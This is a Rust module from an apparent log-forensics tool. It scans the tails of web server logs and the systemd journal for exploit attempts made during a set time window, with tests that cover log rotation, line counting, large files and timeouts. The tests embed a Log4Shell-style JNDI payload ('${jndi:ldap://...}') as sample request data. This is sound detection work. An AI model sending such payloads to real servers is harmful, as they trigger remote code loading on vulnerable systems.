//! What was tried on an application around the moment at which it connected to somebody, by whomever?
//!
//! Who attacks and who is called back are often two. Only the ends of the newest logs are read, and of them only lines
//! that match a rule and stand in the window of time are taken.

use std::fs::File;
use std::io::{Read, Seek, SeekFrom};

use tripoint_model::{Attempt, Timestamp};

use crate::journal::{self, Journal};
use crate::lines::{LINE_MAX, Lines};
use crate::locate::{Log, generations, open};
use crate::log::{LogFormat, pattern};
use crate::scan::{Counts, Options, Scan};

/// When it must have been.
#[derive(Clone, Copy, Debug)]
pub struct Window {
    /// Not before.
    pub from: Timestamp,
    /// Not after.
    pub to: Timestamp,
}

/// What was found.
#[derive(Clone, Debug, Default)]
pub struct Tried {
    /// Exploits that somebody tried, in the order of logs and lines, at most `ATTEMPTS_MAX`.
    pub attempts: Vec<Attempt>,
    /// What was not read, and why.
    pub missing: Vec<String>,
}

/// Attempts that are kept: the newest.
pub const ATTEMPTS_MAX: usize = 64;
/// The end of a log that is read, bytes: some sixty thousand requests.
const END_BYTES_MAX: u64 = 8 << 20;
/// Generations whose ends are read.
const GENERATIONS: usize = 2;
/// Lines before it are counted for their numbers, as far as that is quick.
const COUNTED_BYTES_MAX: u64 = 512 << 20;

/// Reads the ends of logs.
pub fn tried(
    logs: &[Log],
    journal: Option<&Journal>,
    window: Window,
    options: &Options<'_>,
    is_over: &dyn Fn() -> bool,
) -> Tried {
    let mut found = Tried::default();
    if let Some(journal) = journal
        && let Err(error) = of_journal(journal, window, options, is_over, &mut found)
    {
        found.missing.push(format!("{journal}: {error}"));
    }
    for log in logs {
        // A log that was rotated a moment ago has its end in the generation before, which is packed a day later.
        for (age, one) in generations(log).iter().enumerate() {
            let path = one.path.display();
            if is_over() {
                found.missing.push(format!("{path}: its end was not read, the time is over"));
                return found;
            }
            if age < GENERATIONS && !is_packed(one) {
                if let Err(error) = end_of(one, window, options, is_over, &mut found) {
                    found.missing.push(format!("{path}: {error}"));
                }
            } else {
                match open(one) {
                    // Those that follow are older still.
                    Ok(file) if was_written_before(&file, window.from) => break,
                    Ok(_) => {
                        let why = if is_packed(one) { "it is packed" } else { "it is an older generation" };
                        found.missing.push(format!("{path}: not searched for what others tried: {why}"));
                    }
                    Err(error) => found.missing.push(format!("{path}: {error}")),
                }
            }
        }
    }
    found
}

fn of_journal(
    journal: &Journal,
    window: Window,
    options: &Options<'_>,
    is_over: &dyn Fn() -> bool,
    found: &mut Tried,
) -> Result<(), String> {
    let records = journal.read((window.from, window.to), is_over).map_err(|error| error.to_string())?;
    let path = journal.to_string();
    let mut left_out = 0;
    let mut show = |mut attempt: Attempt| {
        if attempt.time.is_some_and(|time| (window.from..=window.to).contains(&time)) && attempt.is_exploit() {
            let cursor = journal::cursor(&attempt.raw).map(|cursor| format!("journalctl --cursor='{cursor}'"));
            attempt.reasons.extend(cursor);
            // The newest come first here.
            if found.attempts.len() < ATTEMPTS_MAX {
                found.attempts.push(attempt);
            } else {
                left_out += 1;
            }
        }
    };
    let mut scan = Scan::new(&path, options, &mut show);
    let mut lines = Lines::new(records.take(END_BYTES_MAX));
    let mut failed = None;
    loop {
        match lines.next_line() {
            Ok(Some(line)) => {
                scan.line(line.number, line.offset, &line.text);
                if is_over() {
                    failed = Some(read_to(line.number));
                    break;
                }
            }
            Ok(None) => break,
            Err(error) => {
                failed = Some(error.to_string());
                break;
            }
        }
    }
    let is_cut = lines.read() >= END_BYTES_MAX;
    let counts = scan.end();
    if is_cut {
        let mib = END_BYTES_MAX >> 20;
        let reason = format!("{path}: only the newest {mib} MiB between {} and {} were read", window.from, window.to);
        found.missing.push(reason);
    }
    found.missing.extend(losses(&path, counts, lines.cut, left_out));
    failed.map_or(Ok(()), Err)
}

fn is_packed(log: &Log) -> bool {
    let ending = log.path.extension().and_then(|ending| ending.to_str());
    ending.is_some_and(|ending| ["gz", "xz", "zst", "bz2"].contains(&ending))
}

fn end_of(
    log: &Log,
    window: Window,
    options: &Options<'_>,
    is_over: &dyn Fn() -> bool,
    found: &mut Tried,
) -> Result<(), String> {
    let mut file = open(log).map_err(|error| error.to_string())?;
    if was_written_before(&file, window.from) {
        return Ok(());
    }
    let start = file.metadata().map_err(|error| error.to_string())?.len().saturating_sub(END_BYTES_MAX);
    let before = lines_before(&mut file, start, is_over).map_err(|error| error.to_string())?;
    file.seek(SeekFrom::Start(start)).map_err(|error| error.to_string())?;
    let path = log.path.display().to_string();
    let made = log.pattern.as_deref().and_then(|pattern| pattern::compile(pattern).ok());
    let mut left_out = 0;
    let mut show = |mut attempt: Attempt| {
        let is_then = attempt.time.is_some_and(|time| (window.from..=window.to).contains(&time));
        if !is_then || !attempt.is_exploit() {
            return;
        }
        if before.is_none() {
            attempt.line = 0;
            attempt.reasons.push("the log is too large for its lines to be counted: line 0, see the offset".into());
        }
        if found.attempts.len() >= ATTEMPTS_MAX {
            found.attempts.remove(0);
            left_out += 1;
        }
        found.attempts.push(attempt);
    };
    let mut scan = Scan::new(&path, options, &mut show).preferring(made.as_ref().map(|made| made as &dyn LogFormat));
    let mut lines = Lines::new(file.take(END_BYTES_MAX));
    let mut failed = None;
    loop {
        let line = match lines.next_line() {
            Ok(Some(line)) => line,
            Ok(None) => break,
            Err(error) => {
                failed = Some(error.to_string());
                break;
            }
        };
        // The first one was cut by where we began.
        if start == 0 || line.number > 1 {
            scan.line(before.unwrap_or(0) + line.number, start + line.offset, &line.text);
        }
        // To look at a line costs more than to look at the clock.
        if is_over() {
            failed = Some(read_to(before.unwrap_or(0) + line.number));
            break;
        }
    }
    let earliest = scan.earliest();
    let counts = scan.end();
    if start > 0 && earliest.is_none_or(|earliest| earliest > window.from) {
        let begins = earliest.map_or("hold no time".to_owned(), |time| format!("begin at {time}"));
        let mib = END_BYTES_MAX >> 20;
        let reason = format!(
            "{path}: of what others tried since {} only the last {mib} MiB were read, which {begins}",
            window.from
        );
        found.missing.push(reason);
    }
    found.missing.extend(losses(&path, counts, lines.cut, left_out));
    failed.map_or(Ok(()), Err)
}

fn read_to(line: u64) -> String {
    format!("read to line {line} only, the time is over")
}

fn was_written_before(file: &File, time: Timestamp) -> bool {
    let written = file.metadata().and_then(|about| about.modified());
    written.is_ok_and(|written| Timestamp::from_system(written) < time)
}

/// What was read and not kept.
fn losses(path: &str, counts: Counts, cut: u64, left_out: u64) -> Vec<String> {
    let kib = LINE_MAX >> 10;
    let told = [
        (cut, format!("of {cut} lines longer than {kib} KiB only the beginning was read")),
        (
            left_out,
            format!("more than {ATTEMPTS_MAX} exploits were tried, {left_out} of the earlier ones are left out"),
        ),
        (counts.forgotten, format!("{} matches of Sigma correlations found no room", counts.forgotten)),
    ];
    let told = told.into_iter().filter(|(count, _)| *count > 0);
    told.map(move |(_, reason)| format!("{path}: {reason}")).collect()
}

/// How many lines end before `end`; nothing where counting would take long.
fn lines_before(file: &mut File, end: u64, is_over: &dyn Fn() -> bool) -> std::io::Result<Option<u64>> {
    if end > COUNTED_BYTES_MAX {
        return Ok(None);
    }
    let mut buffer = vec![0; 1 << 20];
    let (mut left, mut count) = (end, 0);
    while left > 0 && !is_over() {
        let most = usize::try_from(left.min(1 << 20)).unwrap_or(1 << 20);
        let read = file.read(&mut buffer[..most])?;
        if read == 0 {
            break;
        }
        count += memchr::memchr_iter(b'\n', &buffer[..read]).count() as u64;
        left -= read as u64;
    }
    Ok((left == 0).then_some(count))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::attempt::pack;
    use crate::locate::How;
    use crate::stamp::Clock;

    fn request(second: u32, target: &str) -> String {
        format!("198.51.100.77 - - [29/Nov/2026:10:00:{second:02} +0000] \"GET {target} HTTP/1.1\" 200 512\n")
    }

    fn found(folder: &Path, name: &str) -> Tried {
        let log = Log { path: folder.join(name), root: "/".into(), how: How::OpenFile, pattern: None };
        let at = |second: i64| Timestamp::from_seconds(1_795_946_400 + second);
        let options = Options { format: None, clock: Clock::at(at(60)), pack: pack(), is_proxy: &|_| false };
        let mut found = tried(&[log], None, Window { from: at(5), to: at(20) }, &options, &|| false);
        found.attempts.retain(|one| one.family == "jndi");
        found
    }

    #[test]
    fn exploits_of_the_time_are_found_with_their_lines_and_nothing_else() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, lines: &[String]| std::fs::write(folder.path().join(name), lines.concat()).unwrap();
        let jndi = "/?x=${jndi:ldap://203.0.113.66/a}";
        write("a.log", &[request(1, jndi), request(9, "/index.html"), request(10, jndi), request(30, jndi)]);
        let told: Vec<_> = found(folder.path(), "a.log").attempts.iter().map(|one| (one.line, one.offset)).collect();
        let second = (request(1, jndi).len() + request(9, "/index.html").len()) as u64;
        assert_eq!(told, [(3, second)]);
        // Rotated since: the end of the generation before counts.
        write("b.log", &[request(25, "/")]);
        write("b.log.1", &[request(10, jndi)]);
        let attempts = found(folder.path(), "b.log").attempts;
        assert!(attempts.len() == 1 && attempts[0].file.ends_with("b.log.1"), "{attempts:?}");
    }

    #[test]
    fn whatever_was_not_read_or_not_kept_is_said() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
        let missing = |name: &str| found(folder.path(), name).missing.join("; ");
        let jndi = "/?x=${jndi:ldap://203.0.113.66/a}";
        write("quiet.log", &request(10, jndi));
        assert_eq!(missing("quiet.log"), "");
        // The bytes that are read begin after the time that was asked for; then before it.
        let filler = |second: u32| request(second, &format!("/{}", "x".repeat(500)));
        let many = usize::try_from(END_BYTES_MAX).unwrap() / filler(7).len() + 1000;
        write("busy.log", &filler(7).repeat(many));
        let said = missing("busy.log");
        assert!(said.contains("busy.log: of what others tried since") && said.contains("begin at"), "{said}");
        write("early.log", &(filler(2).repeat(many) + &request(10, jndi)));
        assert_eq!(missing("early.log"), "");
        write("crowd.log", &request(10, jndi).repeat(ATTEMPTS_MAX + 3));
        let said = missing("crowd.log");
        assert!(said.contains("more than 64 exploits were tried") && said.contains("left out"), "{said}");
        write("long.log", &request(10, &format!("/{}", "x".repeat(LINE_MAX))));
        assert!(missing("long.log").contains("1 lines longer than 64 KiB"), "{}", missing("long.log"));
        // Generations that are not searched although they were written then.
        for name in ["turned.log", "turned.log.1", "turned.log.2", "packed.log", "packed.log.1.gz"] {
            write(name, &request(10, "/"));
        }
        let said = missing("turned.log");
        assert!(said.contains("turned.log.2: not searched") || said.contains("turned.log.1: not searched"), "{said}");
        assert!(missing("packed.log").contains("packed.log.1.gz: not searched"), "{}", missing("packed.log"));
    }

    #[test]
    fn of_a_large_log_the_end_is_read_and_its_lines_keep_their_numbers() {
        let folder = tempfile::tempdir().unwrap();
        let filler = request(7, &format!("/{}", "x".repeat(500)));
        let many = usize::try_from(END_BYTES_MAX).unwrap() / filler.len() + 1000;
        let text = filler.repeat(many) + &request(10, "/?x=${jndi:ldap://203.0.113.66/a}");
        std::fs::write(folder.path().join("a.log"), &text).unwrap();
        let attempts = found(folder.path(), "a.log").attempts;
        assert_eq!(attempts.len(), 1);
        assert_eq!((attempts[0].line, attempts[0].offset), (many as u64 + 1, (filler.len() * many) as u64));
    }

    #[test]
    fn what_was_not_read_for_want_of_time_is_said() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("a.log"), request(10, "/").repeat(100)).unwrap();
        let log = Log { path: folder.path().join("a.log"), root: "/".into(), how: How::OpenFile, pattern: None };
        let at = |second: i64| Timestamp::from_seconds(1_795_946_400 + second);
        let options = Options { format: None, clock: Clock::at(at(60)), pack: pack(), is_proxy: &|_| false };
        let looks = std::cell::Cell::new(0);
        let is_over = || looks.replace(looks.get() + 1) > 10;
        let found = tried(&[log], None, Window { from: at(5), to: at(20) }, &options, &is_over);
        assert!(found.missing[0].ends_with("only, the time is over"), "{:?}", found.missing);
        assert!(looks.get() < 20, "{}", looks.get());
    }
}
